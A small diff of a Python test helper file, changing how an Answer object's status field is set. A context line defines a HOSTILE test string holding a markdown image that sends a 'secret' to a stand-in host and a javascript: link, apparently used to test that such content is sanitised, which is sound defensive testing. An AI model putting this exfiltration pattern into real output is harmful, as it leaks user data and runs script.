@@ -25,7 +25,7 @@ HOSTILE = "See ![pixel](http://evil.example/?q=secret) and [here](javascript:ale
 
 
 def answer(text: str, *citations: Citation, passages: tuple[Passage, ...] = ()) -> Answer:
-    return Answer("Who?", text, bool(text), 0.75, citations, passages, "copying", "world", 3)
+    return Answer("Who?", text, "answer" if text else "none", 0.75, citations, passages, "copying", "world", 3)
 
 
 def citation(number: int, quote: str, *claims: tuple[int, int], **more: Any) -> Citation:
